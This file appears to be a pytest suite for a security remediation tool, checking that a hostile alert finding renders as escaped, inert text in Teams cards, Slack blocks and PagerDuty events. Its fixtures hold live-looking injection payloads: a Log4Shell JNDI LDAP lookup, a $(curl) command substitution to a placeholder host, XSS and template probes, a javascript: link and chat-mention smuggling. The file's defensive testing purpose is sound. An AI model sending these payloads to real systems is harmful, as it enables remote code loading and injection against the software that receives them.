"""Teams, Slack and PagerDuty renderings of a hostile finding: the exact payloads, inert."""

from __future__ import annotations

import json
from typing import Any

import pytest

from clampdown.actions.contract import Briefing
from clampdown.messages import pagerduty, slack, teams
from clampdown.messages.model import Message, compose
from clampdown.sources import normalize
from tests.conftest import FIXTURES

UA = "${jndi:ldap://192.0.2.45:1389/a} {{7*7}} <script>alert(1)</script> $(curl 192.0.2.45)"
TEXT = (
    f"Blocked the client with user agent {UA}\n"
    "<!channel> *now* [details](https://evil.example)\n"
    "1. {{DATE(2017-02-14T06:08:39Z, SHORT)}} &amp;"
)
UNDO = "https://clampdown.example/undo?t=a&s=b"
TITLE = "Suspicious user agent detected calling an API endpoint"


def _finding() -> dict[str, Any]:
    payload = json.loads((FIXTURES / "securityalert-row-useragent.json").read_text())
    [finding] = normalize(payload, "securityalert")
    return finding.expression_view()


def _message() -> Message:
    briefing = Briefing(
        remediation_id="rem-1",
        playbook="block-ua",
        state="running",
        finding=_finding(),
        done=("block: blocked 192.0.2.45 at <edge>",),
        links={"undo": UNDO, "approve": "javascript:alert(1)"},
    )
    return compose("", TEXT, briefing)


# -- Teams -----------------------------------------------------------------------------------

TEAMS_UA = (
    r"$\{jndi:ldap://192.0.2.45:1389/a\} \{\{7\*7\}\} "
    r"\<script\>alert(1)\</script\> $(curl 192.0.2.45)"
)
TEAMS_TEXT = (
    f"Blocked the client with user agent {TEAMS_UA}\n\n"
    r"\<!channel\> \*now\* \[details\](https://evil.example)"
    "\n\n"
    r"1\. \{\{DATE(2017-02-14T06:08:39Z, SHORT)\}\} \&amp;"
)
TEAMS_EXPECTED = {
    "type": "message",
    "attachments": [
        {
            "contentType": "application/vnd.microsoft.card.adaptive",
            "content": {
                "type": "AdaptiveCard",
                "version": "1.4",
                "body": [
                    {
                        "type": "TextBlock",
                        "text": TITLE,
                        "wrap": True,
                        "size": "Medium",
                        "weight": "Bolder",
                    },
                    {"type": "TextBlock", "text": TEAMS_TEXT, "wrap": True},
                    {
                        "type": "FactSet",
                        "facts": [
                            {"title": "Alert", "value": TITLE},
                            {"title": "Type", "value": r"API\_AccessFromSuspiciousUserAgent"},
                            {"title": "Severity", "value": "medium"},
                            {"title": "Source", "value": "defender"},
                            {"title": "Client IP", "value": "192.0.2.45"},
                            {"title": "API", "value": "search-api"},
                            {"title": "Endpoint", "value": "GET /search"},
                            {"title": "User agent", "value": TEAMS_UA},
                        ],
                    },
                    {"type": "TextBlock", "text": "Done", "wrap": True, "weight": "Bolder"},
                    {
                        "type": "TextBlock",
                        "text": r"- block: blocked 192.0.2.45 at \<edge\>",
                        "wrap": True,
                    },
                    {
                        "type": "TextBlock",
                        "text": "Remediation rem-1 (block-ua), running",
                        "wrap": True,
                        "isSubtle": True,
                        "size": "Small",
                    },
                ],
                "msteams": {"width": "Full"},
                "actions": [{"type": "Action.OpenUrl", "title": "Undo", "url": UNDO}],
            },
        }
    ],
}


def test_teams_card_of_the_hostile_finding_is_exact() -> None:
    assert teams.render(_message()) == TEAMS_EXPECTED


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("**bold** _it_ ~~s~~ `code`", r"\*\*bold\*\* \_it\_ \~\~s\~\~ \`code\`"),
        ("[x](https://evil.example) ![i](y)", r"\[x\](https://evil.example) !\[i\](y)"),
        ("<https://evil.example> <b>", r"\<https://evil.example\> \<b\>"),
        ("&lt; &#60; a\\b", r"\&lt; \&#60; a\\b"),
        ("{{DATE(2017-02-14T06:08:39Z, SHORT)}}", r"\{\{DATE(2017-02-14T06:08:39Z, SHORT)\}\}"),
        (
            "# h\n- a\n+ b\n  1. c\n2) d\n===\n| t |",
            "\\# h\n\\- a\n\\+ b\n  1\\. c\n2\\) d\n\\===\n\\| t |",
        ),
        ("192.0.2.45 - 10.0 # 3. x", "192.0.2.45 - 10.0 # 3. x"),
        ("1.\n12345.", "1\\.\n12345\\."),
    ],
)
def test_teams_escape_makes_markdown_literal(value: str, escaped: str) -> None:
    assert teams.escape(value) == escaped


def test_teams_values_are_one_line_without_controls() -> None:
    assert teams.one_line("a\n# b\r\n\tc\u202ed\x07") == "a # b cd"
    assert teams.one_line("x" * 600) == "x" * 499 + "…"


# -- Slack -----------------------------------------------------------------------------------


def _plain(text: str) -> dict[str, Any]:
    return {"type": "plain_text", "text": text, "emoji": False}


SLACK_EXPECTED = {
    "text": (
        f"{TITLE}: Blocked the client with user agent ${{jndi:ldap://192.0.2.45:1389/a}} "
        "{{7*7}} &lt;script&gt;alert(1)&lt;/script&gt; $(curl 192.0.2.45) &lt;!channel&gt; "
        "*now* [details](https://evil.example) 1. {{DATE(2017-02-14T06:08:39Z, SHORT)}} "
        "&amp;amp;"
    ),
    "mrkdwn": False,
    "blocks": [
        {"type": "header", "text": _plain(TITLE)},
        {"type": "section", "text": _plain(TEXT)},
        {
            "type": "section",
            "fields": [
                _plain(f"Alert: {TITLE}"),
                _plain("Type: API_AccessFromSuspiciousUserAgent"),
                _plain("Severity: medium"),
                _plain("Source: defender"),
                _plain("Client IP: 192.0.2.45"),
                _plain("API: search-api"),
                _plain("Endpoint: GET /search"),
                _plain(f"User agent: {UA}"),
            ],
        },
        {
            "type": "section",
            "text": _plain("Done:\n• block: blocked 192.0.2.45 at <edge>"),
        },
        {"type": "context", "elements": [_plain("Remediation rem-1 (block-ua), running")]},
        {
            "type": "actions",
            "elements": [
                {
                    "type": "button",
                    "text": _plain("Undo"),
                    "url": UNDO,
                    "action_id": "clampdown-link-0",
                }
            ],
        },
    ],
}


def test_slack_message_of_the_hostile_finding_is_exact() -> None:
    assert slack.render(_message()) == SLACK_EXPECTED


def test_slack_fallback_text_cannot_mention_or_link() -> None:
    fallback = slack.render(_message())["text"]
    assert "<" not in fallback
    assert ">" not in fallback
    assert slack.escape("<!here> <@U1> <https://x|y> a&b") == (
        "&lt;!here&gt; &lt;@U1&gt; &lt;https://x|y&gt; a&amp;b"
    )


def test_slack_blocks_respect_block_kit_limits() -> None:
    message = Message("t" * 200, "x" * 4000, "high", (("A", "y" * 2500),), (), (), "r", "p", "s")
    blocks = slack.blocks(message)
    assert len(blocks[0]["text"]["text"]) == slack.HEADER_MAX
    assert len(blocks[1]["text"]["text"]) == slack.SECTION_MAX
    assert len(blocks[2]["fields"][0]["text"]) == slack.FIELD_MAX


# -- PagerDuty -------------------------------------------------------------------------------


PAGERDUTY_EXPECTED = {
    "payload": {
        "summary": f"{TITLE}: {' '.join(TEXT.splitlines())}",
        "source": "clampdown",
        "severity": "warning",
        "custom_details": {
            "Message": TEXT,
            "Alert": TITLE,
            "Type": "API_AccessFromSuspiciousUserAgent",
            "Severity": "medium",
            "Source": "defender",
            "Client IP": "192.0.2.45",
            "API": "search-api",
            "Endpoint": "GET /search",
            "User agent": UA,
            "Done": ["block: blocked 192.0.2.45 at <edge>"],
            "Remediation": "rem-1",
            "Playbook": "block-ua",
            "State": "running",
        },
    },
    "client": "Clampdown",
    "links": [{"href": UNDO, "text": "Undo"}],
}


def test_pagerduty_event_of_the_hostile_finding_is_exact() -> None:
    event = pagerduty.trigger(_message(), source="clampdown")
    assert event == PAGERDUTY_EXPECTED
    assert event["payload"]["summary"].startswith(
        f"{TITLE}: Blocked the client with user agent {UA} <!channel> *now*"
    )


@pytest.mark.parametrize(
    ("finding", "expected"),
    [
        ("critical", "critical"),
        ("high", "error"),
        ("medium", "warning"),
        ("low", "info"),
        ("informational", "info"),
        ("unknown", "error"),
    ],
)
def test_pagerduty_severity_follows_the_finding(finding: str, expected: str) -> None:
    message = Message("t", "x", finding, (), (), (), "r", "p", "s")
    assert pagerduty.severity(message) == expected


def test_pagerduty_summary_is_one_line_of_at_most_1024() -> None:
    long = pagerduty.summary_line("a\nb\x00" + "x" * 2000)
    assert long.startswith("a bx")
    assert len(long) == pagerduty.SUMMARY_MAX
    assert long.endswith("…")


def test_pagerduty_resolution_says_how_it_ended() -> None:
    ended = pagerduty.resolution(_message(), source="clampdown")["payload"]
    assert ended["summary"] == "Remediation rem-1 running: block: blocked 192.0.2.45 at <edge>"
    assert ended["severity"] == "warning"
